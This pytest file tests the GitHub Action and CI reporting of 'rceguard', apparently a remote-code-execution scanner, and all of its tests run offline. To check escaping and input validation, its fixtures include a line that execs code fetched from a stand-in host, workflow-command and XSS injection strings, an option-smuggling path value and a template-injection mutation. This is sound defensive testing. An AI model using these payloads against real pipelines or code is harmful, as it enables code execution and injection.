"""The GitHub Action: action.yml passes the offline linters and follows the security rules, and its
logic (rceguard.ci) produces annotations, a job summary, SARIF and outputs - tested with GITHUB_*
variables pointing at temporary files, never touching GitHub or the network."""
from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Dict, List, Tuple

import pytest
import yaml

from rceguard import ci

from test_changes import APPENDED, OLD, REMOTE_EXEC, git, make_pr_repo, make_repo, write, _isolated_git  # noqa: F401

REPO_ROOT = Path(__file__).resolve().parent.parent
ACTION = REPO_ROOT / "action.yml"


# ----------------------------------------------------------------------------- action.yml


def _tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        pytest.fail(f"{name} is not installed: pip install -e '.[test]'")
    return path


def _offline_env() -> Dict[str, str]:
    env = dict(os.environ)
    # an unreachable proxy: any attempt to use the network fails instead of silently working
    for var in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"):
        env[var] = "http://127.0.0.1:9"
    env["NO_PROXY"] = ""
    for var in ("GH_TOKEN", "GITHUB_TOKEN", "ZIZMOR_GITHUB_TOKEN"):
        env.pop(var, None)
    return env


def check_jsonschema(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-actions", str(path)],
        capture_output=True, text=True, env=_offline_env(), timeout=120,
    )


def zizmor(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [_tool("zizmor"), "--offline", "--no-progress", str(path)],
        capture_output=True, text=True, env=_offline_env(), timeout=120,
    )


def test_check_jsonschema_accepts_action_and_rejects_a_broken_one(tmp_path: Path) -> None:
    ok = check_jsonschema(ACTION)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "ok -- validation done" in ok.stdout
    broken = tmp_path / "action.yml"
    text = ACTION.read_text()
    broken.write_text(text.replace("      shell: bash\n      env:\n        RCEGUARD_PYTHON", "      env:\n        RCEGUARD_PYTHON"))
    assert broken.read_text() != text
    assert check_jsonschema(broken).returncode != 0  # a run step without shell is invalid


def test_zizmor_reports_nothing_and_would_catch_problems(tmp_path: Path) -> None:
    ok = zizmor(ACTION)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "No findings to report" in ok.stdout
    text = ACTION.read_text()
    for audit, bad in (
        ("template-injection", text.replace("""run: '"$RCEGUARD_PYTHON" -m rceguard.ci'""", "run: echo ${{ inputs.paths }}")),
        ("unpinned-uses", re.sub(r"actions/setup-python@[0-9a-f]{40}", "actions/setup-python@v5", text)),
    ):
        assert bad != text
        d = tmp_path / audit
        d.mkdir()
        (d / "action.yml").write_text(bad)  # zizmor recognises actions by their file name
        res = zizmor(d / "action.yml")
        assert res.returncode != 0 and audit in res.stdout, (audit, res.stdout, res.stderr)


def test_action_structure() -> None:
    text = ACTION.read_text()
    action = yaml.safe_load(text)
    assert action["runs"]["using"] == "composite"
    inputs = action["inputs"]
    for name in ("paths", "diff-base", "changed-lines", "fail-on", "sarif-file", "upload", "category",
                 "python-version"):
        assert name in inputs and "description" in inputs[name], name
    assert inputs["paths"]["default"] == "."
    assert inputs["sarif-file"]["default"] == "rceguard.sarif"
    assert inputs["upload"]["default"] == "true"
    assert set(action["outputs"]) == {"findings", "sarif-file"}

    steps = action["runs"]["steps"]
    for step in steps:
        if "run" in step:
            assert step.get("shell"), step.get("name")
            assert "${{" not in step["run"], f"expression inside run: {step.get('name')}"
    # every action pinned to a full commit SHA with the version in a comment
    uses_lines = [ln.strip() for ln in text.splitlines() if ln.strip().startswith("uses:")]
    assert len(uses_lines) == 2
    for line in uses_lines:
        assert re.fullmatch(r"uses: [\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", line), line
    assert any("github/codeql-action/upload-sarif@" in ln and "# v4." in ln for ln in uses_lines)

    setup = next(s for s in steps if "setup-python" in s.get("uses", ""))
    assert setup["with"]["update-environment"] is False  # does not change the caller's Python
    install = next(s for s in steps if s.get("id") == "install")
    assert '"$GITHUB_ACTION_PATH"' in install["run"]  # the action's own checkout, not PyPI
    scan = next(s for s in steps if s.get("id") == "scan")
    assert "rceguard.ci" in scan["run"]
    assert sum("rceguard" in s.get("run", "") and "-m rceguard" in s.get("run", "") for s in steps) == 1  # one run
    upload = next(s for s in steps if "upload-sarif" in s.get("uses", ""))
    assert upload["if"].startswith("always()") and upload["continue-on-error"] is True
    assert upload["with"]["sarif_file"] == "${{ steps.scan.outputs.sarif-file }}"


# ----------------------------------------------------------------------------- the script


def parse_outputs(path: Path) -> Dict[str, str]:
    out: Dict[str, str] = {}
    lines = path.read_text().split("\n")
    i = 0
    while i < len(lines):
        m = re.fullmatch(r"([\w-]+)<<(ghadelimiter_[0-9a-f]+)", lines[i])
        if m:
            end = lines.index(m.group(2), i + 1)
            out[m.group(1)] = "\n".join(lines[i + 1:end])
            i = end + 1
        else:
            assert lines[i] == "", lines[i]
            i += 1
    return out


@pytest.fixture
def pr_repo(tmp_path: Path) -> Path:
    return make_pr_repo(tmp_path)


def gh_env(tmp_path: Path, event: str, payload: dict, **extra: str) -> Dict[str, str]:
    gh = tmp_path / "gh"
    gh.mkdir(exist_ok=True)
    (gh / "event.json").write_text(json.dumps(payload))
    env = {
        "GITHUB_EVENT_NAME": event,
        "GITHUB_EVENT_PATH": str(gh / "event.json"),
        "GITHUB_STEP_SUMMARY": str(gh / "summary.md"),
        "GITHUB_OUTPUT": str(gh / "output.txt"),
        "RCEGUARD_PATHS": ".",
        "RCEGUARD_DIFF_BASE": "",
        "RCEGUARD_CHANGED_LINES": "auto",
        "RCEGUARD_FAIL_ON": "",
        "RCEGUARD_BASELINE": "",
        "RCEGUARD_SARIF_FILE": "rceguard.sarif",
    }
    env.update(extra)
    return env


def run_ci(monkeypatch, cwd: Path, env: Dict[str, str]) -> Tuple[int, str, List[str]]:
    import rceguard.scan as scan_mod

    calls: List[int] = []
    real_scan = scan_mod.scan

    def counting_scan(*a, **kw):
        calls.append(1)
        return real_scan(*a, **kw)

    monkeypatch.setattr(scan_mod, "scan", counting_scan)
    monkeypatch.chdir(cwd)
    out = io.StringIO()
    status = ci.run(env, out=out)
    assert len(calls) <= 1  # scanned once; everything else comes from the SARIF file
    return status, out.getvalue(), [ln for ln in out.getvalue().splitlines() if ln.startswith("::")]


def test_pull_request_run(pr_repo: Path, tmp_path: Path, monkeypatch, capsys) -> None:
    base = git(pr_repo, "rev-parse", "main").strip()
    env = gh_env(tmp_path, "pull_request", {"pull_request": {"base": {"sha": base}}}, GITHUB_BASE_REF="main")
    status, log, commands = run_ci(monkeypatch, pr_repo, env)
    assert status == 1

    errors = [c for c in commands if c.startswith("::error ")]
    assert len(errors) == 2 and len(commands) == 2
    assert errors[0].startswith("::error file=new.py,line=5,col=5,endLine=5,endColumn=31,title=RCE001 remote-code-exec::")
    assert errors[1].startswith("::error file=touched.py,line=9,")
    assert "%0AFlow%3A" not in errors[0]  # the message escapes only % CR LF
    assert "%0AFlow:%0A  1. new.py:5:10  `requests.get(u)` returns network data" in errors[0]
    assert all("\n" not in c and "\r" not in c for c in commands)
    assert "changes since main" in log

    # the SARIF is an analysis of the whole tree: code scanning compares it with the base branch's
    sarif = json.loads((pr_repo / "rceguard.sarif").read_text())
    results = sarif["runs"][0]["results"]
    assert [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results] == [
        "new.py", "old.py", "touched.py", "touched.py"]
    assert "originalUriBaseIds" not in sarif["runs"][0]  # no absolute path of the runner
    assert str(pr_repo) not in (pr_repo / "rceguard.sarif").read_text()

    assert parse_outputs(Path(env["GITHUB_OUTPUT"])) == {"findings": "2", "sarif-file": "rceguard.sarif"}

    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert summary.startswith("## rceguard: 2 findings\n")
    assert "| Level | Rule | Location | Finding |" in summary
    rows = [ln for ln in summary.splitlines() if ln.startswith("| error |")]
    assert len(rows) == 2
    assert "<code>new.py:5</code>" in rows[0]
    assert "1. <code>new.py:5</code> <code>requests.get(u)</code> returns network data" in rows[0]
    assert "Compared with <code>main</code>: **2 scanned files changed**; listed here: findings on the lines it adds" in summary
    assert "old.py" not in summary and "old.py" not in log


def test_push_run_scans_everything(pr_repo: Path, tmp_path: Path, monkeypatch) -> None:
    env = gh_env(tmp_path, "push", {"ref": "refs/heads/main"}, RCEGUARD_FAIL_ON="never")
    status, log, commands = run_ci(monkeypatch, pr_repo, env)
    assert status == 0  # fail-on never
    assert len([c for c in commands if c.startswith("::error ")]) == 4
    assert "changes since" not in log
    assert parse_outputs(Path(env["GITHUB_OUTPUT"]))["findings"] == "4"
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert "Scanned 3 files of the whole tree;" in summary and "Compared with" not in summary


def test_explicit_inputs(pr_repo: Path, tmp_path: Path, monkeypatch) -> None:
    base = git(pr_repo, "rev-parse", "main").strip()
    pr = {"pull_request": {"base": {"sha": base}}}
    # diff-base given, changed-lines off: whole changed files
    env = gh_env(tmp_path, "pull_request", pr, RCEGUARD_DIFF_BASE="main", RCEGUARD_CHANGED_LINES="false",
                 RCEGUARD_SARIF_FILE="out dir.sarif", RCEGUARD_PATHS="'touched.py' new.py")
    status, log, commands = run_ci(monkeypatch, pr_repo, env)
    assert status == 1 and len(commands) == 3
    assert parse_outputs(Path(env["GITHUB_OUTPUT"])) == {"findings": "3", "sarif-file": "out dir.sarif"}
    assert (pr_repo / "out dir.sarif").is_file()
    assert "Scanned 2 files under <code>paths</code>;" in Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    # "none": the whole tree even on a pull request
    env = gh_env(tmp_path, "pull_request", pr, RCEGUARD_DIFF_BASE="none")
    Path(env["GITHUB_OUTPUT"]).unlink()
    status, log, commands = run_ci(monkeypatch, pr_repo, env)
    assert len(commands) == 4 and "changes since" not in log


def test_clean_run(tmp_path: Path, monkeypatch) -> None:
    repo = make_repo(tmp_path / "clean", {"ok.py": "x = 1\n"})
    env = gh_env(tmp_path, "push", {})
    status, log, commands = run_ci(monkeypatch, repo, env)
    assert status == 0 and commands == []
    sarif = json.loads((repo / "rceguard.sarif").read_text())
    assert sarif["runs"][0]["results"] == []  # uploaded anyway, so fixed alerts close
    assert parse_outputs(Path(env["GITHUB_OUTPUT"])) == {"findings": "0", "sarif-file": "rceguard.sarif"}
    assert Path(env["GITHUB_STEP_SUMMARY"]).read_text().startswith("## rceguard: no findings\n")


def test_hostile_content_is_escaped(tmp_path: Path, monkeypatch) -> None:
    payload = (
        "import requests\n\n\ndef run(u):\n"
        "    exec(requests.get('http://x/%0A::warning::pwned|<img src=x onerror=alert(1)>[a](http://e)\\r\\n').text)\n"
    )
    repo = make_repo(tmp_path / "hostile", {"we,ird:100%.py": payload, "broken.py": "def (:\n"})
    env = gh_env(tmp_path, "push", {})
    status, log, commands = run_ci(monkeypatch, repo, env)
    assert status == 1
    err = next(c for c in commands if c.startswith("::error "))
    assert err.startswith("::error file=we%2Cird%3A100%25.py,line=5,")
    assert "http://x/%250A::warning::pwned" in err  # %0A cannot become a new line
    assert sum(1 for c in commands if c.startswith("::warning ")) == 1  # broken.py
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    row = next(ln for ln in summary.splitlines() if ln.startswith("| error | RCE001"))
    assert "<img" not in summary and "&lt;img src=x onerror=alert(1)&gt;" in row
    assert "[a](http" not in summary and "&#91;a&#93;(http" in summary
    assert row.count("|") == 5  # the pipe in the code did not open a new cell
    assert "could not be read or parsed" in summary and "broken.py" in summary


def test_summary_is_capped(pr_repo: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(ci, "SUMMARY_LIMIT", 900)
    env = gh_env(tmp_path, "push", {}, RCEGUARD_FAIL_ON="never")
    run_ci(monkeypatch, pr_repo, env)
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert re.search(r"\.\.\. and [1-4] more; see the SARIF file", summary)
    assert len(summary.encode()) < 2000


def test_errors(pr_repo: Path, tmp_path: Path, monkeypatch, capsys) -> None:
    (pr_repo / "rceguard.sarif").write_text('{"runs": [{"results": [{"ruleId": "RCE001"}]}]}')  # stale
    env = gh_env(tmp_path, "push", {}, RCEGUARD_DIFF_BASE="no-such-ref")
    status, log, commands = run_ci(monkeypatch, pr_repo, env)
    assert status == 2
    assert len(commands) == 1 and commands[0].startswith("::error title=rceguard::`diff-base`: unknown revision 'no-such-ref'")
    assert not Path(env["GITHUB_OUTPUT"]).exists()  # no outputs: the upload step is skipped
    assert "## rceguard: error" in Path(env["GITHUB_STEP_SUMMARY"]).read_text()

    env = gh_env(tmp_path, "push", {}, RCEGUARD_CHANGED_LINES="maybe")
    status, log, commands = run_ci(monkeypatch, pr_repo, env)
    assert status == 2 and "`changed-lines` must be true, false or auto" in commands[0]

    # changed-lines without a diff base: a warning, then the whole tree
    env = gh_env(tmp_path, "push", {}, RCEGUARD_CHANGED_LINES="true", RCEGUARD_FAIL_ON="never")
    status, log, commands = run_ci(monkeypatch, pr_repo, env)
    assert status == 0 and commands[0].startswith("::warning title=rceguard::changed-lines is set")


def test_paths_cannot_become_options(pr_repo: Path, tmp_path: Path, monkeypatch, capsys) -> None:
    env = gh_env(tmp_path, "push", {}, RCEGUARD_PATHS="--write-baseline=pwned.json")
    status, log, commands = run_ci(monkeypatch, pr_repo, env)
    assert status == 2 and "`paths`: path does not exist: --write-baseline=pwned.json" in commands[0]
    assert not (pr_repo / "pwned.json").exists()


def test_readme_example_workflow_is_valid(tmp_path: Path) -> None:
    readme = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## GitHub Action"):]
    block = section[section.index("```yaml\n") + len("```yaml\n"):]
    block = block[:block.index("```\n")]
    workflow = yaml.safe_load(block)
    job = workflow["jobs"]["rceguard"]
    assert job["permissions"]["security-events"] == "write" and job["permissions"]["contents"] == "read"
    assert set(workflow[True]) == {"pull_request", "push"}  # YAML 1.1 reads the key `on` as True
    checkout = job["steps"][0]
    assert checkout["with"]["fetch-depth"] == 0
    path = tmp_path / "rceguard.yml"
    path.write_text(block)
    res = subprocess.run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path)],
        capture_output=True, text=True, env=_offline_env(), timeout=120,
    )
    assert res.returncode == 0, res.stdout + res.stderr
